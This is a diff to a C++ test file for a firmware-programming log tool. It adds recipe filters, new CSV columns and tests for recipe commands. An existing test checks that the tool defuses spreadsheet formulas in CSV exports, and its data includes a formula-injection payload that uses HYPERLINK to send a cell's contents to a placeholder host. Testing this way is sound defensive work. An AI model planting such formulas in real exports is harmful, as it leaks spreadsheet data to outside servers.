@@ -6,6 +6,8 @@
 #include "RecordSupport.h"
 
 #include <QCoreApplication>
+#include <QDir>
+#include <QFile>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
@@ -179,12 +181,24 @@ TEST_F(LogTool, SummaryCountsRefusedBatchesApart)
         CAttempt refused = SampleAttempt(11);   // MSP430F149, the same day
         refused.Result = "refused";
         refused.Step = "Check";
+        refused.Recipe = "blink";
+        refused.RecipeVersion = 2;
         ASSERT_TRUE(record.Insert(refused));
     }
     ASSERT_EQ(Run({"summary", "--since", "2026-03-02T08:00:05Z", "--device", "MSP430F149"}), 0);
     EXPECT_NE(Out.str().find("\nMSP430F149\t3\t2\t1\t0\t66.7%\t1\n"), std::string::npos) << Out.str();
+    EXPECT_NE(Out.str().find("\nblink version 2\t0\t0\t0\t0\t-\t1\n"), std::string::npos) << Out.str();
     ASSERT_EQ(Run({"export", "--format", "csv", "--result", "refused"}), 0);
     EXPECT_NE(Out.str().find("00000000-0000-4000-8000-000000000011,"), std::string::npos);
+    // By recipe, and by recipe and version.
+    struct CRow { const char* Recipe; int Rows; };
+    for (const CRow& row : {CRow{"blink", 1}, CRow{"blink:2", 1}, CRow{"blink:1", 0}, CRow{"other", 0}}) {
+        ASSERT_EQ(Run({"export", "--format", "csv", "--recipe", row.Recipe}), 0) << Err.str();
+        const std::string rows = Out.str();
+        EXPECT_EQ(std::count(rows.begin(), rows.end(), '\n'), 1 + row.Rows) << row.Recipe;
+    }
+    EXPECT_EQ(Run({"export", "--format", "csv", "--recipe", "blink:x"}), 1);
+    EXPECT_NE(Err.str().find("--recipe \"blink:x\" is no recipe NAME or NAME:VERSION"), std::string::npos);
 }
 
 TEST_F(LogTool, FiltersSummaryAndFind)
@@ -209,7 +223,10 @@ TEST_F(LogTool, FiltersSummaryAndFind)
               "\n"
               "firmware SHA-256\tunits\tpassed\tfailed\tinterrupted\tyield\trefused\n"
               "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\t4\t2\t2\t0\t50.0%\t0\n"
-              "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\t2\t2\t0\t0\t100.0%\t0\n");
+              "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\t2\t2\t0\t0\t100.0%\t0\n"
+              "\n"
+              "recipe\tunits\tpassed\tfailed\tinterrupted\tyield\trefused\n"
+              "(none)\t6\t4\t2\t0\t66.7%\t0\n");
 
     // An offset that carries --since past the year 9999: after every row.
     ASSERT_EQ(Run({"export", "--format", "csv", "--since", "9999-12-31T23:00:00-05:00"}), 0) << Err.str();
@@ -266,9 +283,10 @@ TEST_F(LogTool, ThousandAttemptsSurviveACsvReader)
     const QJsonArray table = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
     ASSERT_EQ(table.size(), 1001);
     const QJsonArray header = table[0].toArray();
-    ASSERT_EQ(header.size(), 26);
+    ASSERT_EQ(header.size(), 28);
     EXPECT_EQ(header[0].toString(), "id");
     EXPECT_EQ(header[25].toString(), "fuse_blown");
+    EXPECT_EQ(header[27].toString(), "recipe_version");
     auto cell = [&](int row, const char* column) {
         for (int c = 0; c < header.size(); ++c)
             if (header[c].toString() == column)
@@ -277,7 +295,7 @@ TEST_F(LogTool, ThousandAttemptsSurviveACsvReader)
     };
     for (int i = 1; i <= 1000; ++i) {
         const CAttempt a = SampleAttempt(i);  // oldest first: row i is attempt i
-        ASSERT_EQ(table[i].toArray().size(), 26) << "row " << i;
+        ASSERT_EQ(table[i].toArray().size(), 28) << "row " << i;
         EXPECT_EQ(cell(i, "id"), a.Id);
         EXPECT_EQ(cell(i, "started_at"), a.StartedAt);
         EXPECT_EQ(cell(i, "station"), "line-3, bay \"B\"");
@@ -313,7 +331,7 @@ TEST_F(LogTool, FormulasInTextCellsAreDefusedInCsvOnly)
     const std::string csv = Out.str();
     EXPECT_NE(csv.find(",'-op,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",115200,'@SUM(1+1),31,3.3,"), std::string::npos)
         << csv;
-    EXPECT_NE(csv.find(",failed,Verify,\"Unable to verify (FFFFFFE7)\nunit 20, \"\"bad\"\" cell\",-25,\r\n"),
+    EXPECT_NE(csv.find(",failed,Verify,\"Unable to verify (FFFFFFE7)\nunit 20, \"\"bad\"\" cell\",-25,,,\r\n"),
               std::string::npos) << csv;
     ASSERT_EQ(Run({"export", "--format", "json", "--serial", "1020"}), 0) << Err.str();
     const QJsonObject o = QJsonDocument::fromJson(QByteArray::fromStdString(Out.str())).array()[0].toObject();
@@ -376,4 +394,66 @@ TEST_F(LogTool, ADamagedRecordExportsTheRowsBeforeTheDamageAndExitsTwo)
         EXPECT_NE(Out.str().find("00000000-0000-4000-8000-000000000800"), std::string::npos) << format;
         EXPECT_EQ(Out.str().find("00000000-0000-4000-8000-000000001000"), std::string::npos) << format;
     }
+}
+
+// The engineer's recipe commands on a recipe folder: bad input names what is
+// wrong and makes nothing; a setup the station's check refuses is refused;
+// versions count up, export gives the approved image back, retire ends it.
+TEST_F(LogTool, RecipesInAFolder)
+{
+    const QString folder = Dir.filePath("recipes");
+    const QString fw = QStringLiteral(CORV_SOURCE_DIR "/examples/blink-f112.txt");
+    const auto recipe = [&](QStringList args) {
+        Out.str({});
+        Err.str({});
+        return RunLogTool(QStringList{"--folder", folder, "recipe"} + args, Out, Err);
+    };
+    const QStringList good{"create", "blink", "--firmware", fw, "--device", "MSP430F112", "--vcc", "3.0"};
+    struct CRow {
+        QStringList Args;
+        const char* Error;
+    };
+    const CRow bad[] = {
+        {{"create", "blink", "--device", "MSP430F112", "--vcc", "3"}, "recipe create needs --firmware"},
+        {{"create", "bl ink", "--firmware", fw, "--device", "MSP430F112", "--vcc", "3"}, "\"bl ink\" cannot name a recipe"},
+        {{"create", "blink", "--firmware", fw, "--device", "MSP430F112", "--vcc", "nan"}, "--vcc takes a supply voltage"},
+        {{"create", "blink", "--firmware", fw, "--device", "MSP430X999", "--vcc", "3"}, "--device \"MSP430X999\" names no device"},
+        {{"create", "blink", "--firmware", folder + "/none.txt", "--device", "MSP430F112", "--vcc", "3"}, "is no readable file"},
+        {good + QStringList{"--serial-type", "word"}, "--serial-type word needs --serial-address HEX"},
+        {good + QStringList{"--serial-type", "qword", "--serial-address", "1000"}, "--serial-type takes none"},
+        {good + QStringList{"--pool", "P"}, "--pool needs the line database"},
+        // The serial number on the image itself: the station's setup check refuses.
+        {good + QStringList{"--serial-type", "word", "--serial-address", "F000"}, "recipe blink is refused: Batch not started"},
+        {{"show", "blink"}, "There is no recipe named blink"},
+        {{"retire", "blink"}, "There is no recipe named blink"},
+        {{"show", "blink", "--version", "0"}, "--version \"0\" is no version number"},
+        {{"launch", "blink"}, "recipe: unknown command \"launch\""},
+    };
+    for (const CRow& row : bad) {
+        EXPECT_EQ(recipe(row.Args), 1) << row.Args.join(' ').toStdString();
+        EXPECT_NE(Err.str().find(row.Error), std::string::npos) << Err.str();
+        EXPECT_TRUE(QDir(folder).isEmpty()) << "a refused command changed the folder";
+    }
+    ASSERT_EQ(recipe(good), 0) << Err.str();
+    ASSERT_EQ(recipe(good + QStringList{"--erase-info", "--serial-type", "word", "--serial-address", "1000"}), 0)
+        << Err.str();
+    EXPECT_EQ(Out.str().rfind("created recipe blink version 2: blink-f112.txt, SHA-256 ", 0), 0u) << Out.str();
+    ASSERT_EQ(recipe({"show", "blink", "--version", "1"}), 0);
+    EXPECT_NE(Out.str().find("version: 1\nstate: in use\ndevice: MSP430F112\nvcc: 3.0\n"), std::string::npos) << Out.str();
+    ASSERT_EQ(recipe({"show", "blink"}), 0);
+    EXPECT_NE(Out.str().find("erase info: yes\nblow fuse: no\nserial type: word\nserial address: 1000\n"),
+              std::string::npos) << Out.str();
+    ASSERT_EQ(recipe({"list"}), 0);
+    const std::string listed = Out.str();
+    EXPECT_EQ(std::count(listed.begin(), listed.end(), '\n'), 2) << listed;
+    const QString out = Dir.filePath("back.txt");
+    ASSERT_EQ(recipe({"export", "blink", "--firmware-out", out}), 0) << Err.str();
+    QFile original(fw), back(out);
+    ASSERT_TRUE(original.open(QIODevice::ReadOnly) && back.open(QIODevice::ReadOnly));
+    EXPECT_EQ(back.readAll(), original.readAll());
+    ASSERT_EQ(recipe({"retire", "blink"}), 0);
+    EXPECT_EQ(recipe(good), 1);
+    EXPECT_NE(Err.str().find("Recipe blink is retired"), std::string::npos) << Err.str();
+    ASSERT_EQ(recipe({"show", "blink", "--version", "1"}), 0);
+    EXPECT_NE(Out.str().find("state: retired"), std::string::npos);
 }
